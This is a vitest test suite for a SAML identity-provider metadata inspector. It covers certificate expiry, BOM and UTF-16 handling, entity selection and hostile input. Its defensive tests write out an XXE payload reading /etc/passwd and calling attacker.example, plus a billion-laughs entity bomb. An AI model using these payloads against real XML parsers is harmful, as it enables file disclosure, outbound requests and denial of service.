import { existsSync, readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import { createTestIdp } from '../../../sandbox/saml/test-idp';
import { inspectMetadata } from './metadata-inspector';

const now = new Date('2026-11-22T00:00:00Z');
const DAY = 86_400_000;
const inspect = (xml: string, extra: { stripBom?: boolean; entityId?: string } = {}) => inspectMetadata({ xml, stripBom: false, ...extra }, now);
const codes = (xml: string, extra: { stripBom?: boolean; entityId?: string } = {}) => inspect(xml, extra).inspection.problems.map((p) => p.code);

const fixtureDir = path.resolve('../shared/fixtures/idp-metadata');

describe.skipIf(!existsSync(fixtureDir))('published IdP metadata', () => {
  const files = existsSync(fixtureDir) ? readdirSync(fixtureDir).filter((f) => f.endsWith('.xml')).sort() : [];
  const read = (name: string) => readFileSync(path.join(fixtureDir, name), 'utf8');

  it('reads all 20 documents quickly, each ending in an acceptable document or a specific reason', () => {
    expect(files).toHaveLength(20);
    for (const file of files) {
      const started = performance.now();
      const { inspection, documentForAws } = inspect(read(file));
      expect(performance.now() - started, file).toBeLessThan(1000);
      if (inspection.ok) {
        expect(documentForAws, file).toContain(inspection.entityId);
        expect(inspection.certificates.some((c) => c.latestSigning), file).toBe(true);
        expect(inspection.ssoEndpoints.length, file).toBeGreaterThan(0);
      } else {
        expect(inspection.problems.length, file).toBeGreaterThan(0);
        for (const p of inspection.problems) expect(p.remedy.length, file).toBeGreaterThan(10);
      }
    }
  });

  it('reads the certificates of current IdPs: Okta, Auth0, Keycloak, Shibboleth', () => {
    const okta = inspect(read('01-okta-dev599847.xml')).inspection;
    expect(okta.ok).toBe(true);
    expect(okta.entityId).toBe('http://www.okta.com/exk9u78i8aMSxvkV70h7');
    expect(okta.certificates[0]).toMatchObject({ use: 'signing', keyType: 'RSA', keyBits: 2048, status: 'valid' });
    expect(okta.certificates[0]!.sha256).toMatch(/^([0-9A-F]{2}:){31}[0-9A-F]{2}$/);
    expect(okta.ssoEndpoints.map((e) => e.bindingName)).toEqual(['HTTP-POST', 'HTTP-Redirect']);
    const keycloak = inspect(read('14-keycloak-realm-joplin.xml')).inspection;
    expect(keycloak.ok).toBe(true);
    expect(keycloak.ssoEndpoints).toHaveLength(4);
    const shib = inspect(read('09-shibboleth-samltest-rollover.xml')).inspection;
    expect(shib.certificates.filter((c) => c.use === 'signing')).toHaveLength(2);
    expect(shib.warnings.join(' ')).toMatch(/2 signing certificates; the one that stays valid longest/);
  });

  it('offers to strip the BOM of Entra ID metadata and then judges its certificates', () => {
    const xml = read('03-entra-id-federationmetadata-bom.xml');
    const before = inspect(xml).inspection;
    expect(before.hasBom).toBe(true);
    expect(before.problems[0]!.code).toBe('bom');
    const after = inspect(xml, { stripBom: true }).inspection;
    expect(after.problems.map((p) => p.code)).toEqual(['expired-certificate']);
    expect(after.certificates.filter((c) => c.use === 'signing')).toHaveLength(3);
    expect(after.certificates.find((c) => c.latestSigning)!.notAfter.slice(0, 10)).toBe('2019-02-14');
  });

  it('refuses expired certificates with the date, and points at the latest of several', () => {
    const google = inspect(read('06-google-workspace.xml')).inspection;
    expect(google.problems[0]!.message).toMatch(/expired on 2021-01-03/);
    const multi = inspect(read('19-onelogin-multi-certs.xml')).inspection;
    const latest = multi.certificates.find((c) => c.latestSigning)!;
    expect(latest.notAfter.slice(0, 10)).toBe('2021-08-05');
  });

  it('picks the only IdP of an EntitiesDescriptor and sends just its EntityDescriptor', () => {
    const { inspection, documentForAws } = inspect(read('10-shibboleth-testshib-entities.xml'));
    expect(inspection.ok).toBe(true);
    expect(inspection.entities).toHaveLength(2);
    expect(documentForAws).not.toContain('EntitiesDescriptor');
    expect(documentForAws).toMatch(/<(md:)?EntityDescriptor[^>]*xmlns/);
    expect(inspectMetadata({ xml: documentForAws!, stripBom: false }, now).inspection.ok).toBe(true);
  });

  it('lists the IdPs of a federation aggregate and inspects only the one chosen', () => {
    const xml = read('20-swamid-test-federation-entities.xml');
    const all = inspect(xml).inspection;
    expect(all.problems.map((p) => p.code)).toEqual(['choose-entity']);
    const idps = all.entities.filter((e) => e.isIdp);
    expect(idps.length).toBeGreaterThan(1);
    const picked = inspect(xml, { entityId: idps[0]!.entityId });
    expect(picked.inspection.entityId).toBe(idps[0]!.entityId);
    expect(picked.inspection.problems.map((p) => p.code)).not.toContain('choose-entity');
    expect(codes(xml, { entityId: 'https://nope.example' })).toEqual(['unknown-entity']);
  });
});

describe('generated IdP metadata', () => {
  it('accepts a fresh 2048-bit IdP with no warnings', () => {
    const idp = createTestIdp({ entityId: 'https://idp.portcullis.test' });
    const { inspection, documentForAws } = inspect(idp.metadataXml());
    expect(inspection.ok).toBe(true);
    expect(inspection.warnings).toEqual([]);
    expect(documentForAws).toBe(idp.metadataXml());
    expect(inspection.certificates[0]!.subject).toContain('CN=https://idp.portcullis.test');
  });

  it('warns when the signing certificate expires within 30 days', () => {
    const idp = createTestIdp({ notBefore: new Date(now.getTime() - 300 * DAY), notAfter: new Date(now.getTime() + 10 * DAY) });
    const { inspection } = inspect(idp.metadataXml());
    expect(inspection.ok).toBe(true);
    expect(inspection.certificates[0]!.status).toBe('expiring');
    expect(inspection.warnings[0]).toMatch(/expires in 10 day/);
  });

  it('refuses an expired certificate and a key under 1024 bits', () => {
    const expired = createTestIdp({ notBefore: new Date(now.getTime() - 400 * DAY), notAfter: new Date(now.getTime() - DAY) });
    expect(codes(expired.metadataXml())).toEqual(['expired-certificate']);
    const weak = createTestIdp({ keyBits: 512 });
    const { inspection } = inspectMetadata({ xml: weak.metadataXml(), stripBom: false }, new Date());
    expect(inspection.problems[0]!.code).toBe('weak-key');
    expect(inspection.problems[0]!.message).toMatch(/512-bit key; IAM requires at least 1024 bits/);
  });

  it('points at the latest-expiring of several signing certificates', () => {
    const longer = createTestIdp({ notAfter: new Date(now.getTime() + 900 * DAY) });
    const idp = createTestIdp({ notAfter: new Date(now.getTime() + 200 * DAY) });
    const { inspection } = inspect(idp.metadataXml({ extraCertificatesBase64: [longer.certificateBase64] }));
    expect(inspection.certificates.map((c) => c.latestSigning)).toEqual([false, true]);
  });

  it('refuses metadata without a signing certificate', () => {
    const xml = createTestIdp().metadataXml().replace(/<md:KeyDescriptor[\s\S]*?<\/md:KeyDescriptor>/, '<!-- no key -->'.padEnd(900, ' '));
    expect(codes(xml)).toEqual(['no-signing-certificate']);
  });
});

describe('hostile and wrong documents', () => {
  const idpXml = createTestIdp({ entityId: 'https://idp.hostile.test' }).metadataXml();

  it('refuses XXE before parsing and never reads the referenced file or the network', () => {
    const fetchSpy = vi.spyOn(globalThis, 'fetch');
    const secret = readFileSync('/etc/passwd', 'utf8').split('\n')[0]!;
    const xxe = `<?xml version="1.0"?>\n<!DOCTYPE md [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "https://attacker.example/x">]>\n` + idpXml.replace('<?xml version="1.0" encoding="UTF-8"?>\n', '').replace('entityID="https://idp.hostile.test"', 'entityID="&xxe;&net;"');
    const result = inspect(xxe);
    expect(result.inspection.problems.map((p) => p.code)).toEqual(['dtd']);
    expect(JSON.stringify(result)).not.toContain(secret);
    expect(fetchSpy).not.toHaveBeenCalled();
    fetchSpy.mockRestore();
  });

  it('refuses a billion-laughs document at once', () => {
    const lol = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]><lolz>&lol9;</lolz>`;
    const started = performance.now();
    expect(codes(lol)).toEqual(['dtd']);
    expect(performance.now() - started).toBeLessThan(50);
  });

  it('refuses a 12 MB document by its size, quickly', () => {
    const big = idpXml.replace('</md:EntityDescriptor>', `<!--${'x'.repeat(12 * 1024 * 1024)}--></md:EntityDescriptor>`);
    const started = performance.now();
    const { inspection } = inspect(big);
    expect(inspection.problems.map((p) => p.code)).toEqual(['too-large']);
    expect(inspection.problems[0]!.message).toMatch(/at most 10,000,000/);
    expect(performance.now() - started).toBeLessThan(100);
  });

  it('recognizes an HTML login page', () => {
    expect(codes('<!DOCTYPE html><html><head><title>Sign in</title></head><body><form></form></body></html>')).toEqual(['html']);
    expect(codes('<html lang="en"><body>Login</body></html>')).toEqual(['html']);
  });

  it('offers to strip a BOM, and accepts the document once stripped', () => {
    expect(codes('\uFEFF' + idpXml)).toEqual(['bom']);
    const stripped = inspect('\uFEFF' + idpXml, { stripBom: true });
    expect(stripped.inspection.ok).toBe(true);
    expect(stripped.documentForAws!.charCodeAt(0)).not.toBe(0xfeff);
  });

  it('recognizes UTF-16 text, read as UTF-16 or mis-read as UTF-8', () => {
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(idpXml.replace('UTF-8', 'UTF-16'), 'utf16le')]);
    expect(codes(bytes.toString('utf8'))).toEqual(['utf16']);
    expect(codes(idpXml.replace('UTF-8', 'UTF-16'))).toEqual(['utf16']);
  });

  it('recognizes SP metadata, a SAML response, other XML and broken XML', () => {
    const sp = '<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="https://app.example"><md:SPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><md:AssertionConsumerService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://app.example/acs" index="0"/></md:SPSSODescriptor></md:EntityDescriptor>';
    expect(codes(sp)).toEqual(['sp-metadata']);
    const response = Buffer.from(createTestIdp().samlResponse({ roles: ['arn:aws:iam::1:role/a,arn:aws:iam::1:saml-provider/b'] }), 'base64').toString('utf8');
    expect(codes(response)).toEqual(['saml-response']);
    expect(codes('<config><a/></config>')).toEqual(['not-metadata']);
    expect(codes(idpXml.slice(0, 500))).toEqual(['not-xml']);
    expect(codes('   ')).toEqual(['empty']);
  });

  it('asks which IdP to use when an EntitiesDescriptor holds several', () => {
    const a = createTestIdp({ entityId: 'https://a.example' }).metadataXml().replace(/<\?xml[^>]*>\n/, '');
    const b = createTestIdp({ entityId: 'https://b.example' }).metadataXml().replace(/<\?xml[^>]*>\n/, '');
    const both = `<md:EntitiesDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata">${a}${b}</md:EntitiesDescriptor>`;
    const first = inspect(both).inspection;
    expect(first.problems.map((p) => p.code)).toEqual(['choose-entity']);
    expect(first.entities.map((e) => e.entityId)).toEqual(['https://a.example', 'https://b.example']);
    const chosen = inspect(both, { entityId: 'https://b.example' });
    expect(chosen.inspection.ok).toBe(true);
    expect(chosen.documentForAws).toContain('entityID="https://b.example"');
    expect(chosen.documentForAws).not.toContain('https://a.example');
  });
});
